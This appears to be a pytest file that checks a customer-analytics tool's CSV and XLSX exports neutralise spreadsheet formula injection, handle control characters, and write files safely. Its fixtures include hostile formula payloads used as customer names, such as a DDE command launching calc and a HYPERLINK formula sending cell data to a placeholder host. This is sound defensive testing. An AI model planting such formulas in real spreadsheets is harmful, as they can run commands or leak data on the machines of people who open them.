"""Files for people never run customer data: formulas are written as text (OWASP CSV injection),
control characters never break an .xlsx, and the store keeps what the customer gave."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
from pathlib import Path

import openpyxl
import pytest

from kizuna._errors import KizunaError
from kizuna._sheets import neutralise, open_csv, open_sheet, sheet_title, write_table, xlsx_text
from kizuna.workspace import Workspace

FORMULAS = {  # customer id -> name
    "C01": '=HYPERLINK("http://x"&A1,"click")',
    "C02": "=cmd|' /C calc'!A0",
    "C03": "+1",
    "C04": "-1",
    "C05": "@SUM(1)",
    "C06": "\t=1+1",
    "C07": "\r=1+1",
    "C09": "\x01=1+1",
}
SAFE = {"C08": "ab\x01c", "C10": "山田 太郎", "C11": "鈴木 花子", "C12": "a=b", "C13": "ＴＡＲＯ"}
# ASCII names that the importer stores unchanged whatever its text normalisation
KEPT = ("C01", "C02", "C03", "C04", "C05")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(path)  # not read-only: cells keep their data_type
    return [list(row) for row in book.active.iter_rows()]


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory):
    """A workspace whose customers are named like attacks, analysed, each with one order."""
    root = tmp_path_factory.mktemp("sheets")
    names = {**FORMULAS, **SAFE}
    with (root / "customers.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name", "email", "phone", "address"])
        for cid, name in names.items():
            writer.writerow([cid, name, f"{cid.lower()}@example.jp", "+81 3-1234-5678", "-2+3 東京都"])
    with (root / "orders.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["order_id", "customer_id", "ordered_at", "amount"])
        writer.writerows([f"O{cid}", cid, "2025-05-01", 1_000] for cid in names)
    ws = Workspace.init(root / "ws")
    assert ws.import_file("customers", root / "customers.csv").rejected == 0
    assert ws.import_file("orders", root / "orders.csv").rejected == 0
    ws.analyze(dt.date(2025, 6, 30))
    yield ws
    ws.close()


def stored(ws: Workspace) -> dict[str, dict]:
    rows = ws.store.table("customers").to_pyarrow().to_pylist()
    return {r["customer_id"]: r for r in rows}


def test_the_store_keeps_the_names_as_given(shop: Workspace):
    customers = stored(shop)
    assert len(customers) == len(FORMULAS) + len(SAFE)
    for cid in KEPT:
        assert customers[cid]["name"] == FORMULAS[cid]


def test_a_csv_export_writes_every_formula_as_text(shop: Workspace, tmp_path: Path):
    assert shop.export_segment("rank_other", tmp_path / "list.csv", lang="en") == 13
    header, *rows = read_csv(tmp_path / "list.csv")
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    customers = stored(shop)
    for cid, row in by_id.items():
        name = customers[cid]["name"]
        dangerous = name.lstrip("\x01")[:1] in ("=", "+", "-", "@", "\t", "\r")
        assert row["name"] == ("'" + name if dangerous else name), cid
        assert row["phone"] == "'+81 3-1234-5678" and row["address"] == "'-2+3 東京都"
        assert row["LTV (yen)"] == "1000" and row["orders"] == "1"  # numbers are not text
    for cid in FORMULAS:
        assert by_id[cid]["name"].startswith("'"), cid
    assert by_id["C01"]["name"] == "'" + FORMULAS["C01"]
    assert by_id["C12"]["name"] == "a=b"


def test_an_xlsx_export_has_no_formula_cell_and_reads_back_as_given(shop: Workspace, tmp_path: Path):
    assert shop.export_segment("rank_other", tmp_path / "list.xlsx", fmt="xlsx", lang="en") == 13
    header, *rows = read_xlsx(tmp_path / "list.xlsx")
    assert [c.data_type for row in [header, *rows] for c in row if c.data_type == "f"] == []
    names = [c.value for c in header]
    customers = stored(shop)
    seen = set()
    for row in rows:
        cells = dict(zip(names, row, strict=True))
        cid = cells["customer id"].value
        seen.add(cid)
        expected = xlsx_text(customers[cid]["name"])  # .xlsx cannot hold control characters
        assert (cells["name"].value, cells["name"].data_type) == (expected, "s"), cid
        assert cells["phone"].value == "+81 3-1234-5678" and cells["address"].value == "-2+3 東京都"
        assert (cells["LTV (yen)"].value, cells["LTV (yen)"].data_type) == (1000, "n")
        assert cells["last order"].value == dt.datetime(2025, 5, 1)
    assert seen == set(customers)
    by_id = {r[0].value: r[1].value for r in rows}
    assert (by_id["C01"], by_id["C08"]) == (FORMULAS["C01"], "abc")


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "=", '=HYPERLINK("http://x"&A1,"click")',
    "\x01=1+1", "\n-1",
])
def test_neutralise_quotes_text_a_spreadsheet_would_run(text: str):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "", "a=b", "山田 太郎", "'=1+1", " =1+1", "1+1", "ＴＡＲＯ", 1, -1, 2.5, -2.5, decimal.Decimal("-3"), True,
    None, dt.date(2025, 1, 1), dt.datetime(2025, 1, 1, 9, 30),
])
def test_neutralise_leaves_safe_values_and_non_text_alone(value: object):
    result = neutralise(value)
    assert result == value and type(result) is type(value)


def test_xlsx_text_and_sheet_title_make_what_excel_accepts():
    assert xlsx_text("a\x00b\x01c\x1fd\te\nf\rg\r\nh") == "abcd\te\nf\ng\nh"
    assert len(xlsx_text("x" * 40_000)) == 32_767
    assert sheet_title("離脱候補者") == "離脱候補者"
    assert sheet_title("NPS/LTV [a]: *?\\") == "NPS_LTV _a__ ___"
    assert sheet_title("x" * 40) == "x" * 31 and sheet_title("\x01") == "Sheet1"


def test_write_table_keeps_types_and_writes_formulas_as_text(tmp_path: Path):
    rows = [["=1+1", -1, 2.5, dt.date(2025, 1, 2), None, True, decimal.Decimal("7")],
            ["-x", 0, 0.0, dt.datetime(2025, 1, 2, 3, 4), "", False, None]]
    headers = ["text", "int", "float", "date", "none", "bool", "decimal"]
    assert write_table(tmp_path / "t.csv", headers, rows, fmt="csv") == 2
    assert read_csv(tmp_path / "t.csv")[1:] == [
        ["'=1+1", "-1", "2.5", "2025-01-02", "", "True", "7"],
        ["'-x", "0", "0.0", "2025-01-02 03:04:00", "", "False", ""],
    ]
    assert write_table(tmp_path / "t.xlsx", headers, rows, fmt="xlsx", sheet="a/b") == 2
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert book.sheetnames == ["a_b"]
    (_, first, second) = [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]
    assert first[:3] == [("=1+1", "s"), (-1, "n"), (2.5, "n")]
    assert first[3] == (dt.datetime(2025, 1, 2), "d") and first[5] == (True, "b") and first[6] == (7, "n")
    assert second[0] == ("-x", "s")


def test_a_header_that_looks_like_a_formula_is_text_too(tmp_path: Path):
    write_table(tmp_path / "h.csv", ["=id"], [[1]])
    assert read_csv(tmp_path / "h.csv") == [["'=id"], ["1"]]
    write_table(tmp_path / "h.xlsx", ["=id"], [[1]], fmt="xlsx")
    (header, _) = read_xlsx(tmp_path / "h.xlsx")
    assert (header[0].value, header[0].data_type) == ("=id", "s")


def test_the_streaming_csv_writer_writes_row_by_row(tmp_path: Path):
    path = tmp_path / ".rejects.csv.part"
    with open_csv(path, ["file", "row", "value"], shown_as=tmp_path / "rejects.csv") as sheet:
        for n in range(3):
            sheet.writerow(["orders.csv", n + 2, f"=1+{n}"])
        assert sheet.rows == 3
    assert read_csv(path) == [["file", "row", "value"], *[["orders.csv", str(n + 2), f"'=1+{n}"] for n in range(3)]]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM for Excel
    sheet = open_sheet(tmp_path / "s.xlsx", "xlsx", headers=["v"], sheet="rejects")
    sheet.writerow(["=2+2"])
    sheet.close()
    assert read_xlsx(tmp_path / "s.xlsx")[1][0].data_type == "s"


def test_a_failed_write_leaves_the_earlier_file_and_no_partial_one(tmp_path: Path):
    path = tmp_path / "list.csv"
    write_table(path, ["a"], [[1]])

    def rows():
        yield [2]
        raise RuntimeError("the store went away")

    for fmt in ("csv", "xlsx"):
        with pytest.raises(RuntimeError):
            write_table(path, ["a"], rows(), fmt=fmt)
    assert read_csv(path) == [["a"], ["1"]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.csv"]


def test_an_unwritable_path_is_one_line(tmp_path: Path):
    (tmp_path / "folder").mkdir()
    for fmt in ("csv", "xlsx"):
        with pytest.raises(KizunaError, match=rf"^cannot write {tmp_path / 'folder'}: Is a directory\. "):
            write_table(tmp_path / "folder", ["a"], [[1]], fmt=fmt)
        with pytest.raises(KizunaError, match=r"^cannot write .*missing.*: No such file or directory\. "):
            write_table(tmp_path / "missing" / "x.csv", ["a"], [[1]], fmt=fmt)
    with pytest.raises(KizunaError, match="unknown file format 'ods'"):
        write_table(tmp_path / "x.ods", ["a"], [[1]], fmt="ods")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder"]
